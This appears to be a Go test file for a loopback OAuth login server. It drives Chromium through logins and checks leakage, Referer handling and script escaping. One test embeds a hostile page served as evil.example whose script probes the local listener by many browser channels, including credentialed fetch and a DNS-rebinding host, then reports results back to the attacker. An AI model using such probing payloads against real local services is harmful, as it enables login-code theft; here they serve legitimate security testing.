package loopback_test

import (
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/nativeoauth/nativeoauth/loopback"
)

// A whole login in a real browser: S4 its ticket, S13 its Sec-Fetch headers,
// S19 no script and nothing loaded, S20 a final address without the code. The
// fragment is not carried over, the provider gets no Referer, and neither the
// login nor Close waits for idle connections.
func TestS20ChromiumEndsOnAPageWithoutACode(t *testing.T) {
	for _, post := range []bool{false, true} {
		for name, failure := range map[string]error{"done": nil, "failed": errors.New("no")} {
			t.Run(fmt.Sprintf("%s, form_post %v", name, post), func(t *testing.T) {
				var mu sync.Mutex
				var referers []string
				var s *loopback.Server
				authorize := func(w http.ResponseWriter, r *http.Request) {
					// The favicon's request has a Referer: the provider's own page.
					if r.URL.Path == "/authorize" {
						mu.Lock()
						referers = append(referers, r.Header.Values("Referer")...)
						mu.Unlock()
					}
					switch {
					case r.URL.Path != "/authorize":
						http.NotFound(w, r)
					case post:
						w.Header().Set("Content-Type", "text/html")
						fmt.Fprintf(w,
							`<body onload="document.forms[0].submit()">`+
								`<form method=post action="%s">`+
								`<input name=code value=%s><input name=state value=%s></form>`,
							s.RedirectURI(), code, state)
					default: // a provider that sends tokens in the fragment as well
						http.Redirect(w, r, good(s)+"#access_token=fragment-canary",
							http.StatusFound)
					}
				}
				provider := httptest.NewServer(http.HandlerFunc(authorize))
				defer provider.Close()
				s = listen(t, loopback.Config{FormPost: post, Page: loopback.Page{AppName: "Acme"}})
				ticket, err := s.Start(provider.URL+"/authorize",
					loopback.Expect{State: state, Issuer: issuer})
				require.NoError(t, err)
				current := chromium(t, ticket)

				r, err := s.Wait(t.Context())
				require.NoError(t, err)
				got, err := r.Code()
				require.NoError(t, err)
				require.Equal(t, code, got)
				r.Finish("<script>document.title='owned'</script>", failure)
				begun := time.Now()
				settled := func() bool { return loopback.Settled(s) }
				require.Eventually(t, settled, soon, time.Millisecond)
				shown := time.Since(begun)
				begun = time.Now()
				require.NoError(t, s.Close())
				t.Logf("page %v after Finish, Close took %v", shown, time.Since(begun))

				final := strings.Replace(s.RedirectURI(), "/callback", loopback.PagePath(s), 1)
				titled := func() bool { return strings.HasSuffix(current().Title, "Acme") }
				require.Eventually(t, titled, soon, 20*time.Millisecond)
				at := current()
				require.Equal(t, final, strings.TrimSuffix(at.URL, "#"))
				require.Equal(t, failure == nil, at.Title == "You’re signed in · Acme", at.Title)
				require.Empty(t, loopback.LastRefused(s),
					"it asked for nothing else: no favicon, no picture")
				mu.Lock()
				defer mu.Unlock()
				require.Empty(t, referers)
			})
		}
	}
}

// A page of another site in the same browser knows even the state, and does
// what a page can. It neither ends the login nor reads anything.
func TestS11S13APageInChromiumCannotInterfere(t *testing.T) {
	s, ticket := start(t, loopback.Config{FormPost: true})
	report := make(chan string, 1)
	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, attackerPage, good(s), ticket, s.RedirectURI(),
				strings.Replace(good(s), "127.0.0.1", "rebound.example", 1))
		case "/report":
			b, _ := io.ReadAll(r.Body)
			report <- string(b)
		default:
			http.NotFound(w, r)
		}
	}))
	defer attacker.Close()
	u, err := url.Parse(attacker.URL)
	require.NoError(t, err)
	chromium(t, "http://evil.example:"+u.Port()+"/")
	select {
	case got := <-report:
		require.NotContains(t, got, "read:", got)
		require.Contains(t, got, "tried")
	case <-time.After(2 * time.Minute):
		require.Fail(t, "the page did not report")
	}
	require.NotEmpty(t, loopback.LastRefused(s), "its requests did reach the listener")
	pending(t, s)
	require.Equal(t, 302, send(t, "GET", ticket, "").StatusCode, "the ticket is unused")
	complete(t, s)
}

const attackerPage = `<!DOCTYPE html><title>attacker</title><body><script>
const answer = %q, ticket = %q, redirect = %q, rebound = %q;
const log = [];
const all = [answer, ticket, rebound];
for (const u of all) {
	for (const [tag, attr] of [
		["img", "src"], ["script", "src"], ["iframe", "src"], ["object", "data"], ["embed", "src"],
		["video", "src"], ["audio", "src"],
	]) {
		const e = document.createElement(tag); e[attr] = u; document.body.append(e);
	}
	for (const rel of [
		"stylesheet", "prefetch", "preload", "prerender", "icon", "manifest", "modulepreload",
	]) {
		const e = document.createElement("link"); e.rel = rel; e.href = u;
		if (rel == "preload") e.as = "image";
		document.head.append(e);
	}
	const rules = document.createElement("script"); rules.type = "speculationrules";
	const list = [{source: "list", urls: [u]}];
	rules.textContent = JSON.stringify({prefetch: list, prerender: list});
	document.head.append(rules);
	navigator.sendBeacon(u, "code=c");
	new EventSource(u); try { new WebSocket(u.replace("http", "ws")) } catch (e) {}
	new Worker(URL.createObjectURL(new Blob(["importScripts(" + JSON.stringify(u) + ")"])));
	const frame = document.createElement("iframe"); frame.name = "f" + Math.random();
	document.body.append(frame);
	const form = document.createElement("form"); form.method = "post"; form.action = u;
	form.target = frame.name; document.body.append(form); form.submit();
}
const frame = document.createElement("iframe"); frame.name = "post"; document.body.append(frame);
const form = document.createElement("form"); form.method = "post"; form.action = redirect;
form.target = "post";
for (const [k, v] of new URL(answer).searchParams) {
	const i = document.createElement("input"); i.name = k; i.value = v; form.append(i);
}
document.body.append(form); form.submit();
(async () => {
	for (const u of all)
	for (const mode of ["no-cors", "cors"])
	for (const method of ["GET", "POST", "HEAD"]) {
		try {
			const r = await fetch(u, {mode, method, credentials: "include"});
			log.push("tried " + r.type); const text = await r.text();
			if (text || r.status) log.push("read: " + r.status);
		} catch (e) { log.push("tried, failed") }
	}
	await new Promise(r => setTimeout(r, 1500));
	await fetch("/report", {method: "POST", body: log.join("\n")});
})();
</script>`
